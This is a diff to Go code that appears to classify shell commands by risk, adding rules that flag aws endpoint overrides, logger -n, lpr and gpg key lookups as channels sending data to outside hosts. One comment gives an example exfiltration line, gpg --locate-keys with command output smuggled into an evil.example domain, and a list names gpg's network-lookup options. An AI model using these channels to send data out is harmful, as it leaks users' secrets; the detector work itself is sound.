@@ -199,11 +199,32 @@ func judgeVerb(prog string) func(r *Result, words []string) {
 }
 
 func awsModel() *Spec {
-	return &Spec{Name: "aws", Syntax: Syntax{Abbrev: true, Permute: true}, Open: true, Judge: judgeAWS,
-		Options: join(vals(RoleData, "endpoint-url", "output", "query", "profile", "region", "color",
-			"cli-read-timeout", "cli-connect-timeout", "cli-binary-format"), list(val("", RolePath, "ca-bundle")),
+	return &Spec{Name: "aws", Syntax: Syntax{Abbrev: true, Permute: true}, Open: true, Judge: judgeAWS, Env: awsEndpointVars(),
+		Options: join(list(val("", RoleData, "endpoint-url").does(EffExternal, whyAWSEndpoint).when(elsewhere)),
+			vals(RoleData, "output", "query", "profile", "region", "color",
+				"cli-read-timeout", "cli-connect-timeout", "cli-binary-format"), list(val("", RolePath, "ca-bundle")),
 			longs("debug", "no-verify-ssl", "no-paginate", "version", "no-sign-request", "no-cli-pager",
 				"cli-auto-prompt", "no-cli-auto-prompt"))}
+}
+
+// whyAWSEndpoint: the CLI signs every request with the credentials it has
+// and sends it, with its data, to the endpoint it is given.
+const whyAWSEndpoint = "sends the request, its data and the signature of the credentials, to the host this names"
+
+// notLocalHost reports a host name that is not this machine's, or one
+// known only at run time.
+func notLocalHost(v string, computed bool) bool { return computed || !localHost(v) }
+
+// elsewhere reports an address that is not this machine's, or one known
+// only at run time (aws --endpoint-url http://localhost:4566 is a local
+// emulator's).
+func elsewhere(v string, computed bool) bool { return computed || !localURL(v) }
+
+// awsEndpointVars are the variables that set the AWS CLI's endpoint, for
+// every service or one (AWS_ENDPOINT_URL_STS).
+func awsEndpointVars() []EnvVar {
+	return []EnvVar{{Name: "AWS_ENDPOINT_URL", Effect: EffExternal, Why: "AWS_ENDPOINT_URL " + whyAWSEndpoint},
+		{Name: "AWS_ENDPOINT_URL_*", Effect: EffExternal, Why: "AWS_ENDPOINT_URL_* " + whyAWSEndpoint}}
 }
 
 func gcloudModel() *Spec {
@@ -447,6 +468,25 @@ func publisherRows() []row {
 		}},
 		{name: "rustup", build: fixed(rustupModel)},
 		{name: "gpg", aliases: []string{"gpg2"}, build: gpgModel},
+		// logger -n sends the message, or a file's lines, to a syslog
+		// server; lpr and lp send files to a print server, which may be
+		// another machine.
+		{name: "logger", build: func(n string) *Spec {
+			return &Spec{Name: n, Syntax: GNU, Open: true, Options: list(
+				val("n", RoleData, "server").does(EffExternal, "sends the message, or the lines of its file or input, to the syslog server this names").when(notLocalHost),
+				val("P", RoleData, "port"), val("f", RolePath, "file"), val("t", RoleData, "tag"), val("p", RoleData, "priority"),
+				val("u", RolePath, "socket"), val("", RoleData, "id", "msgid", "sd-id", "sd-param", "size", "socket-errors")),
+				Operands: operands(RoleData)}
+		}},
+		{name: "lpr", aliases: []string{"lp"}, build: func(n string) *Spec {
+			return &Spec{Name: n, Syntax: GNU, Open: true, Effect: EffExternal,
+				Why: "sends files or its input to a print server, which may be another machine", Operands: operands(RolePath)}
+		}},
+		// gpg-wks-client looks up the web key directory of the addresses
+		// it is given: each is a request to their domain.
+		{name: "gpg-wks-client", build: func(n string) *Spec {
+			return &Spec{Name: n, Syntax: GNU, Open: true, Operands: operands(RoleData), Judge: computedRequest}
+		}},
 		{name: "twine", build: func(n string) *Spec {
 			return publisher(n, g, "upload", "register")
 		}},
@@ -800,9 +840,33 @@ func gpgModel(n string) *Spec {
 		val("", RoleProgram, "agent-program", "dirmngr-program", "keyboxd-program").does(EffExec, "gpg starts this program when none runs"),
 		val("", RolePath, "homedir", "options").does(EffComputed, "gpg reads its configuration from here (gpg.conf), which may name the programs it starts"),
 		flag("", "use-embedded-filename").does(EffComputed, "gpg writes to the file name stored in the data, which no word shows"),
-		val("", RoleData, "default-key", "passphrase", "pinentry-mode", "keyserver"),
+		val("", RoleData, "default-key", "passphrase", "pinentry-mode", "keyserver", "auto-key-locate"),
+		flag("", "locate-keys", "locate-external-keys", "auto-key-retrieve"),
 		flag("a", "armor"), flag("", "batch", "yes"), flag("q", "quiet"), flag("v", "verbose"),
-	), Operands: operands(RolePath), Judge: gpgDefaultOutput}
+	), Operands: operands(RolePath), Judge: func(r *Result, words []string) {
+		gpgLookups(r)
+		gpgDefaultOutput(r, words)
+	}}
+}
+
+// gpgNetwork are gpg's options that look keys up on the network: on a
+// keyserver, in DNS or by web key directory, where the names they are
+// given are the request (gpg --locate-keys x@"$(…)".evil.example).
+var gpgNetwork = words("--recv-keys", "--receive-keys", "--search-keys", "--refresh-keys", "--fetch-keys",
+	"--locate-keys", "--locate-external-keys", "--auto-key-locate", "--auto-key-retrieve", "--keyserver")
+
+// gpgLookups finds a word known only at run time in a gpg command that
+// looks keys up on the network.
+func gpgLookups(r *Result) {
+	network := false
+	for _, it := range r.Items {
+		if it.Kind == KindOption && it.Opt != nil && slices.ContainsFunc(it.Opt.Long, func(l string) bool { return gpgNetwork["--"+l] }) {
+			network = true
+		}
+	}
+	if network {
+		computedRequest(r, nil)
+	}
 }
 
 // gpgQuiet are the gpg options that leave it doing what it does with a
